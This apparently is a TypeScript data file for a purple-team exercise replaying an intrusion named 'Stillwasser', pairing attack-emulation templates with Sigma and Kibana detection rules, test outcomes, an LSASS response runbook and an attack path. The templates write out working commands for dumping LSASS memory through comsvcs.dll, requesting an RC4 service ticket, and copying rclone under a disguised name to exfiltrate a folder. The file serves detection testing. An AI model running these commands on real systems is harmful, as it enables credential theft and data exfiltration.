/** What the replay of "Stillwasser" is made of, as docs/demo-story.md tells it: templates, rules and how each test went. */
export const templates = [
  {
    key: 'rundll',
    name: 'Library from the profile of a user, by rundll32',
    technique_id: 'T1218.011',
    severity: 'high',
    command: 'rundll32.exe "#{library}",Start',
    cleanup: 'Remove-Item "#{library}"',
    value: '%APPDATA%\\PortSync\\psync.dll',
    description: 'What the image in the mail did on bhv-ws-014, with a library that only writes a line into a file.',
  },
  {
    key: 'lsass',
    name: 'Memory of LSASS, by comsvcs.dll',
    technique_id: 'T1003.001',
    severity: 'critical',
    command: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id "#{dump}" full',
    cleanup: 'Remove-Item "#{dump}"',
    value: '%TEMP%\\berths.dmp',
    description: 'As on day 24: no tool is brought along, Windows writes the memory out by itself.',
  },
  {
    key: 'ticket',
    name: 'RC4 ticket for a service account',
    technique_id: 'T1558.003',
    severity: 'high',
    command:
      'Add-Type -AssemblyName System.IdentityModel\n$spn = "#{service}"\nNew-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken $spn',
    cleanup: 'klist purge',
    value: 'backup/ham-fs-01.nordwind.example',
    description: 'Asks for the ticket of `svc-backup` as any user may; nothing is cracked.',
  },
  {
    key: 'rclone',
    name: 'Copy to a cloud under another name, by rclone',
    technique_id: 'T1567.002',
    severity: 'high',
    command: 'copy rclone.exe C:\\PerfLogs\\svchostx.exe\nC:\\PerfLogs\\svchostx.exe copy "#{folder}" exercise:berths',
    cleanup: 'del C:\\PerfLogs\\svchostx.exe',
    value: 'C:\\Exercise\\Contracts',
    description: 'Forty files of made-up contracts to a bucket of our own, under the name that the attackers used.',
  },
] as const
export type TemplateKey = (typeof templates)[number]['key']

export const rules = [
  {
    key: 'rundll',
    title: 'Rundll32 loads a library from a profile',
    technique_ids: ['T1218.011'],
    severity: 'high',
    maturity: 'stable',
    log_source: 'windows/process_creation',
    language: 'sigma',
    content:
      'title: Rundll32 loads a library from a profile\nlogsource: {category: process_creation, product: windows}\ndetection:\n  selection:\n    Image|endswith: \\rundll32.exe\n    CommandLine|contains: \\AppData\\Roaming\\\n  condition: selection\nlevel: high\n',
    enabled: true,
  },
  {
    key: 'lsass',
    title: 'Memory of LSASS written out by comsvcs.dll',
    technique_ids: ['T1003.001'],
    severity: 'critical',
    maturity: 'experimental',
    log_source: 'windows/process_creation',
    language: 'sigma',
    content:
      'title: Memory of LSASS written out by comsvcs.dll\nlogsource: {category: process_creation, product: windows}\ndetection:\n  selection:\n    CommandLine|contains|all: [comsvcs.dll, MiniDump]\n  condition: selection\nlevel: critical\n',
    enabled: false,
  },
  {
    key: 'ticket',
    title: 'Service ticket with RC4 for a user account',
    technique_ids: ['T1558.003'],
    severity: 'medium',
    maturity: 'test',
    log_source: 'windows/security 4769',
    language: 'kuery',
    content: 'event.code:4769 and winlog.event_data.TicketEncryptionType:0x17 and not winlog.event_data.ServiceName:*$',
    enabled: true,
  },
  {
    key: 'rclone',
    title: 'Much leaves a file server at night',
    technique_ids: ['T1567.002', 'T1048.002'],
    severity: 'high',
    maturity: 'test',
    log_source: 'network/flow',
    language: 'kuery',
    content: 'host.labels:crown-jewel and network.direction:outbound and network.bytes > 500000000',
    enabled: true,
  },
] as const

interface Told {
  template: TemplateKey
  host: string
  environment: string
  objective: string
  red: string
  blue: { outcome: 'prevented' | 'alerted' | 'logged' | 'missed'; notes: string; triggered?: 'yes' | 'no' }
}
/** The four steps in the order of the incident. */
export const steps: readonly Told[] = [
  {
    template: 'rundll',
    host: 'bhv-ws-015',
    environment: 'Workstation of the exercise in Bremerhaven',
    objective: 'Is a library from a profile seen within ten minutes?',
    red: 'Ran at once, as a user without rights. The library wrote its line.',
    blue: { outcome: 'alerted', notes: 'The new rule fired; the alert names parent and path.', triggered: 'yes' },
  },
  {
    template: 'lsass',
    host: 'bhv-ws-015',
    environment: 'Workstation of the exercise in Bremerhaven',
    objective: 'Would we see the theft of day 24 today?',
    red: 'The dump lay in %TEMP% for twenty minutes; nobody asked.',
    blue: {
      outcome: 'missed',
      notes: 'No alert. The event is not collected on workstations, and the rule is switched off.',
      triggered: 'no',
    },
  },
  {
    template: 'ticket',
    host: 'ham-ws-007',
    environment: 'Workstation in Hamburg, domain controller ham-dc-01',
    objective: 'Is an RC4 ticket more than a line in the log?',
    red: 'The ticket came with RC4, although the account could do AES.',
    blue: { outcome: 'logged', notes: 'Event 4769 is there; the rule looks at another index.', triggered: 'no' },
  },
  {
    template: 'rclone',
    host: 'ham-fs-01',
    environment: 'File server, folder of the exercise',
    objective: 'Is the copy of three nights seen in one?',
    red: '600 MB in eleven minutes; the name of the program raised no question.',
    blue: { outcome: 'alerted', notes: 'The volume was seen after four minutes, and the name by Aylin right after it.', triggered: 'yes' },
  },
]

export const runbook = {
  title: 'Somebody writes out the memory of LSASS',
  runbook_type: 'incident_response',
  techniques: ['T1003.001'],
  tools: ['Velociraptor', 'Event viewer'],
  prerequisites: 'The host is known, and somebody may quarantine it.',
  content:
    '## At once\n\n1. Quarantine the host; the owner of the machine is told by phone.\n2. Note who is signed in there: **each of these accounts is lost**.\n\n## Within the hour\n\n1. Renew the passwords of those accounts, service accounts first.\n2. Look for the dump: `Windows.Search.FileFinder` for `*.dmp` of the day.\n',
} as const
export const runbookLater = '3. Renew the ticket-granting key twice, ten hours apart, when a domain administrator was signed in there.\n'

export const lesson = {
  title: 'A rule that is switched off is no rule',
  happened: 'The rule for `comsvcs.dll` was written after day 24 and never switched on: its event was not collected on workstations.',
  learned: 'A rule counts when a test has shown it. Each new rule gets its test within a week.',
  techniques: ['T1003.001'],
} as const

/** What coverage itself tells of. */
export const alertRules = [
  { name: 'A test was missed and nothing follows', severity: 'high', config: { type: 'detection_gap', failed: 1 } },
  { name: 'A test waits for more than a week', severity: 'low', config: { type: 'unvalidated_test', days: 7 } },
] as const

/** What would notice, and when it was last shown that it does: days before today. */
export const assets = [
  {
    rule: 'rundll',
    ...{ name: 'Elastic: library from a profile', asset_type: 'siem_rule', team: 'Analysts', platform: 'Windows', health: 'healthy' },
    technique_ids: ['T1218.011'],
    validation: { result: 'passed', method: 'Purple test', notes: 'Seen in the replay.', days: 0 },
  },
  {
    rule: undefined,
    ...{ name: 'EDR policy of servers', asset_type: 'edr_policy', team: 'Platform', platform: 'Windows', health: 'degraded' },
    technique_ids: ['T1003.001', 'T1021.001'],
    validation: { result: 'failed', method: 'Purple test', notes: 'Not rolled out to jump hosts.', days: 12 },
  },
  {
    rule: undefined,
    ...{ name: 'Flow sensor Hamburg', asset_type: 'sensor', team: 'Network', platform: 'Network', health: 'healthy' },
    technique_ids: ['T1567.002', 'T1048.002', 'T1572'],
    validation: { result: 'passed', method: 'Replayed traffic', notes: '600 MB were seen after four minutes.', days: 130 },
  },
] as const

/** The way of the incident, step by step, with what stood in its place elsewhere: docs/demo-story.md tells it by the day. */
export const path = {
  name: 'Stillwasser: from the mail about berths to the contracts',
  description: 'How they went from a mail to 41 GB of charter contracts in eighteen days. The miner on the web server came by another way.',
  steps: [
    { technique_id: 'T1566.001', note: 'Hafenliste.iso in a mail about berth changes, to j.petersen.' },
    { technique_id: 'T1204.002', note: 'The link in the image is opened on bhv-ws-014.' },
    { technique_id: 'T1218.011', note: 'rundll32 loads psync.dll from the profile.' },
    { technique_id: 'T1071.001', note: 'Calls to docks-sync.example each minute.' },
    { technique_id: 'T1547.001', note: 'Run key "PortSync Updater".' },
    { technique_id: 'T1003.001', note: 'Memory of LSASS, by comsvcs.dll.' },
    { technique_id: 'T1558.003', note: 'RC4 ticket for svc-backup.' },
    { technique_id: 'T1021.001', alternatives: ['T1021.006'], note: 'svc-backup signs in on the jump host; WinRM is open there, too.' },
    { technique_id: 'T1572', note: 'plink opens a way back into the engineering network.' },
    { technique_id: 'T1567.002', alternatives: ['T1048.002'], note: 'rclone, called svchostx.exe.' },
  ],
}
